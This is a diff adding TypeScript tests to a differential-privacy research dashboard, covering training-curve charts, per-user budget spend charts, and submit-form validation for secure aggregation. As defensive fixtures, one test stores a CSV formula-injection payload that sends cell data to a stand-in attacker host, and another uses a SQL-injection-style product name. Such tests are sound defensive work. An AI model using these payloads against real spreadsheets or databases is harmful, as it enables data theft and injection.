@@ -131,6 +131,30 @@ describe('ownership: the same rule as GetJob', () => {
     expect((await get('/audit', 'alice')).status).toBe(403);
   });
 
+  it('a train job page draws the global training curves and, when released, the per-agent ones', async () => {
+    const { get, backend } = setup();
+    const train = job('alice-train', 'alice');
+    train.kind = 'train';
+    train.result = { ...train.result!, columns: ['round', 'trainLoss'], rows: [{ round: 1, trainLoss: 0.7 }, { round: 2, trainLoss: 0.5 }], notes: [], summary: { perAgent: { [XSS_AGENT]: [{ round: 1, trainLoss: 0.8 }] } } };
+    backend.jobs.push(train);
+    const body = await (await get('/jobs/alice-train')).text();
+    expect(body).toContain('data-chart="training"');
+    expect(injected(body)).toEqual([]);
+    const charts = JSON.parse(await (await get('/jobs/alice-train/charts.json')).text()) as { id: string; rows: { series: string }[] }[];
+    expect(new Set(charts.find((c) => c.id === 'training')!.rows.map((r) => r.series))).toEqual(new Set(['train loss (global)', `train loss (${XSS_AGENT})`]));
+  });
+
+  it('the CSV download neutralises a formula in a group name (OWASP), the JSON keeps it as it was released', async () => {
+    const { get, backend } = setup();
+    const hostile = job('alice-formula', 'alice');
+    hostile.result = { ...hostile.result!, rows: [{ g: '=HYPERLINK("https://evil.example/?"&A1,"x")', count: -3 }] };
+    backend.jobs.push(hostile);
+    const csv = await (await get('/jobs/alice-formula/result.csv')).text();
+    expect(csv).toBe(`g,count\r\n"'=HYPERLINK(""https://evil.example/?""&A1,""x"")",-3\r\n`);
+    const json = JSON.parse(await (await get('/jobs/alice-formula/result.json')).text());
+    expect(json.rows[0].g).toBe('=HYPERLINK("https://evil.example/?"&A1,"x")');
+  });
+
   it('CSV and JSON downloads hold the released table', async () => {
     const { get } = setup();
     const csv = await (await get('/jobs/alice-job/result.csv')).text();
@@ -140,6 +164,46 @@ describe('ownership: the same rule as GetJob', () => {
     expect(json.rows).toEqual([{ g: XSS_GROUP, count: 42 }, { g: 'b', count: 17 }]);
     const charts = JSON.parse(await (await get('/jobs/alice-job/charts.json')).text());
     expect(charts[0].rows).toEqual([{ group: XSS_GROUP, value: 42 }, { group: 'b', value: 17 }]);
+  });
+});
+
+describe('Budget: spend over time from the ledger', () => {
+  const charge = (jobId: string, researcher: string, atMs: number, project?: string) => ({ jobId, researcher, population: 'person', products: [XSS_PRODUCT], rho: 0.045, epsilon: 0.3, delta: 0, state: 'committed' as const, atMs, project });
+
+  it("draws only the caller's own charges, per population, product and project, with hostile names as text", async () => {
+    const { get, backend } = setup();
+    backend.charges.push(charge('a1', 'alice', 1000, 'P-1'), charge('b1', 'bob', 1500, 'P-bob'), charge('a2', 'alice', 2000));
+    const page = await get('/budget');
+    const body = await page.text();
+    expect(page.status).toBe(200);
+    expect(injected(body)).toEqual([]);
+    for (const id of ['spend-population', 'spend-product', 'spend-project', 'spend-delta']) expect(body).toContain(`data-chart="${id}"`);
+    const charts = JSON.parse(await (await get('/budget/charts.json')).text()) as { id: string; rows: { series: string; epsilon: number }[] }[];
+    const byProject = charts.find((c) => c.id === 'spend-project')!;
+    expect(byProject.rows.map((r) => r.series)).toEqual(['P-1']);
+    expect(JSON.stringify(charts)).not.toContain('P-bob');
+    // Pure ε charges compose to their sum: 0.3 then 0.6 on population person.
+    expect(charts[0]!.rows.map((r) => r.epsilon)).toEqual([0.3, 0.6]);
+    const admin = JSON.parse(await (await get('/budget/charts.json', 'root')).text()) as { rows: { series: string }[] }[];
+    expect(new Set(admin[0]!.rows.map((r) => r.series))).toEqual(new Set(['alice · person', 'bob · person']));
+  });
+
+  it('says so when older charges are left out of the drawing', async () => {
+    const backend = fakeBackend(agents, []);
+    backend.charges.push(charge('a1', 'alice', 1000), charge('a2', 'alice', 2000), charge('a3', 'alice', 3000));
+    const app = createDashboardApp({ backend, maxHistoryCharges: 2, identify: async () => users.alice! });
+    const body = await (await app.request('/budget')).text();
+    expect(body).toContain('Only the newest 2 charges are drawn');
+    const rows = (JSON.parse(await (await app.request('/budget/charts.json')).text()) as { rows: { epsilon: number }[] }[])[0]!.rows;
+    expect(rows).toHaveLength(2);
+    // Negative control: with room for all three, nothing is left out.
+    const all = createDashboardApp({ backend, maxHistoryCharges: 3, identify: async () => users.alice! });
+    expect(await (await all.request('/budget')).text()).not.toContain('Only the newest');
+  });
+
+  it('says there is nothing to draw before the first DP charge', async () => {
+    const { get } = setup();
+    expect(await (await get('/budget')).text()).toContain('No DP job has been charged yet');
   });
 });
 
@@ -220,12 +284,42 @@ describe('Submit: the privacy cost before submitting', () => {
   });
 
   it.each([
+    ['aggregate', { product: 'person', count: '1', groupBy: 'gender_concept_id', groupKeys: 'gender_concept_id=8507, 8532', mode: 'distributed-dp', rho: '0.1' }, { groupBy: ['gender_concept_id'], groupKeys: { gender_concept_id: [8507, 8532] } }],
+    ['cohort', { mode: 'none' }, {}],
+    ['survival', { mode: 'none' }, {}],
+  ])('previews a secure %s (secagg): the spec asks for it and the page says what the coordinator sees', async (kind, fields, expected) => {
+    const { post, csrf, backend } = setup();
+    const f = new FormData();
+    f.set(CSRF_FIELD, csrf.tokenFor(users.alice!));
+    f.set('kind', kind);
+    f.set('secure', 'secagg');
+    for (const [k, v] of Object.entries(fields)) f.set(k, v);
+    for (const up of ['circe', 'target']) f.set(up, new File([JSON.stringify({ PrimaryCriteria: {} })], 'c.json', { type: 'application/json' }));
+    f.set('action', 'preview');
+    const res = await post('/submit', f);
+    const body = await res.text();
+    expect(res.status, body.slice(0, 600)).toBe(200);
+    expect(backend.submitted).toHaveLength(0);
+    const spec = JSON.parse(/<pre id="spec-json">([\s\S]*?)<\/pre>/.exec(body)![1]!.replace(/&quot;/g, '"').replace(/&#39;/g, "'").replace(/&amp;/g, '&'));
+    expect(spec).toMatchObject({ kind, secure: 'secagg', privacy: { mode: fields.mode }, ...expected });
+    expect(body).toContain('id="secure-note"');
+    expect(body).toContain('the coordinator sees only the sum over the agents');
+  });
+
+  it.each([
     [{ kind: 'aggregate', product: 'person', mode: 'central-dp' }, /epsilon: mode central-dp needs ε/],
     [{ kind: 'aggregate', product: 'person; DROP', count: '1', mode: 'none' }, /product: must be a column name/],
     [{ kind: 'aggregate', product: 'person', meanColumn: 'year_of_birth', mode: 'none' }, /meanLo: a mean needs public bounds/],
     [{ kind: 'cohort', mode: 'none' }, /circe: upload a Circe cohort definition/],
     [{ kind: 'survival', mode: 'none' }, /target: upload the target cohort/],
     [{ kind: 'train', mode: 'none' }, /kind: must be one of/],
+    [{ kind: 'aggregate', product: 'person', count: '1', mode: 'none', secure: 'he' }, /secure: he needs a key pair made and kept on your own machine/],
+    [{ kind: 'aggregate', product: 'person', count: '1', mode: 'central-dp', epsilon: '1', secure: 'secagg' }, /secure: secure aggregation works with privacy mode none or distributed-dp, not central-dp/],
+    [{ kind: 'aggregate', product: 'person', count: '1', mode: 'distributed-dp', rho: '0.1' }, /mode: distributed-dp needs a secure sum/],
+    [{ kind: 'aggregate', product: 'person', count: '1', mode: 'distributed-dp', epsilon: '1', secure: 'secagg' }, /delta: distributed-dp adds discrete Gaussian shares/],
+    [{ kind: 'aggregate', product: 'person', count: '1', groupBy: 'g', mode: 'none', secure: 'secagg' }, /groupKeys: secure aggregation needs a fixed public layout/],
+    [{ kind: 'aggregate', product: 'person', count: '1', groupBy: 'g', groupKeys: 'h=1,2', mode: 'none' }, /groupKeys: must be column=value/],
+    [{ kind: 'aggregate', product: 'person', count: '1', mode: 'none', secure: 'paillier' }, /secure: must be empty, secagg or he/],
   ])('refuses a bad form naming the field: %o', async (fields, message) => {
     const { post, csrf, backend } = setup();
     const f = new FormData();
